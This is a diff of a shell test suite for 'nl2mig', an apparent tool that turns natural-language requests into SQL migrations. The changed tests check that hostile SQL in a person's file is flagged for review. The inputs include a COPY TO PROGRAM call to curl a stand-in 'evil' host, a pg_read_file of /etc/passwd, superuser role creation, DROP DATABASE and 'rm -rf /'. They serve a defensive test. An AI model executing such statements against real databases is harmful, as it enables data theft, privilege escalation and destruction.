@@ -108,7 +108,9 @@ run "$BIN/nl2mig" "please make everything faster" <"$work/dag.ndjson"
 [ "$rc" = 4 ] && grep -q "not understood" "$work/e" && [ ! -s "$work/o" ]
 ok $? "a request the grammar does not understand is refused, nothing on stdout"
 
-# --- the allow-list, on hand-written SQL ---
+# --- the allow-list, on hand-written SQL: a person's file is reviewed, never
+# refused; what model output would be refused for is a note lockscore reports
+# (model output is refused: nl2mig-llm.t) ---
 forbidden=(
 	"DROP DATABASE nl2mig;"
 	"COPY orders TO PROGRAM 'curl http://evil';"
@@ -116,15 +118,20 @@ forbidden=(
 	"CREATE ROLE intruder SUPERUSER;"
 	"ALTER SYSTEM SET fsync = off;"
 	"SET ROLE postgres;"
-	"ALTER TABLE audit.events ADD COLUMN x int;"
 	"ALTER TABLE orders ADD COLUMN x text DEFAULT pg_read_file('/etc/passwd');"
 	"SELECT pg_terminate_backend(42);"
 )
 for sql in "${forbidden[@]}"; do
 	printf 'SET lock_timeout = %s;\n%s\n' "'5s'" "$sql" >"$work/bad.sql"
-	run "$BIN/nl2mig" --sql "$work/bad.sql" <"$work/dag.ndjson"
-	[ "$rc" = 1 ] && grep -q "bad.sql:2: refused" "$work/e" && [ ! -s "$work/o" ]
-	ok $? "refused, file and line named: $sql"
+	run "$BIN/nl2mig" --no-lint --sql "$work/bad.sql" <"$work/dag.ndjson"
+	record_out "$work/o"
+	[ "$rc" = 0 ] && [ "$(tail -1 "$work/o" | jq -c '[.outside_allow_list[] | .line]')" = "[2]" ] &&
+		[ "$(tail -1 "$work/o" | jq -r .forward)" = "$(cat "$work/bad.sql")" ] &&
+		{ "$BIN/lockscore" <"$work/o" >"$work/ls" 2>"$work/ls.err" || true; } &&
+		jq -se 'any(.[]; .kind == "finding" and .rule == "outside-allow-list" and .line == 2)' "$work/ls" >/dev/null
+	st=$?
+	ok $st "reviewed (exit 0), the statement a model may not write noted at line 2 and reported by lockscore: $sql"
+	[ $st = 0 ] || diag "nl2mig exit $rc: $(head -3 "$work/e")" "lockscore: $(head -3 "$work/ls.err")"
 done
 printf 'SET lock_timeout = %s;\n\\! rm -rf /\nALTER TABLE orders ADD COLUMN x text;\n' "'5s'" >"$work/bad.sql"
 run "$BIN/nl2mig" --sql "$work/bad.sql" <"$work/dag.ndjson"
@@ -152,9 +159,13 @@ run "$BIN/nl2mig" --sql "$work/syn.sql" <"$work/dag.ndjson"
 [ "$rc" = 4 ] && grep -q "syn.sql:1:" "$work/e"
 ok $? "SQL that does not parse: exit 4 with file and line"
 printf 'UPDATE orders SET total_cents = 0;\n' >"$work/u.sql"
-run "$BIN/nl2mig" --sql "$work/u.sql" <"$work/dag.ndjson"
-[ "$rc" = 1 ] && grep -q "UPDATE overwrites public.orders.total_cents" "$work/e"
-ok $? "an UPDATE of existing data needs --allow-destructive"
+run "$BIN/nl2mig" --no-lint --sql "$work/u.sql" <"$work/dag.ndjson"
+[ "$rc" = 0 ] && [ "$(tail -1 "$work/o" | jq -c '[.destructive, (.irreversible | map(test("UPDATE overwrites")) | any)]')" = "[true,true]" ]
+ok $? "an UPDATE of existing data in a person's file: reviewed, destructive and irreversible said"
+printf 'ALTER TABLE audit.events ADD COLUMN x int;\n' >"$work/other-schema.sql"
+run "$BIN/nl2mig" --no-lint --sql "$work/other-schema.sql" <"$work/dag.ndjson"
+[ "$rc" = 0 ] && [ "$(tail -1 "$work/o" | jq -c .outside_allow_list)" = "[]" ]
+ok $? "a person's file names any schema it likes: there is no request to keep to"
 
 # --- lockscore on the builtin's output: no medium findings for safe forms ---
 for req in "add index on orders (status)" "make customers.phone not null" "add a foreign key from order_items.product_id to products" "add timestamps to products"; do
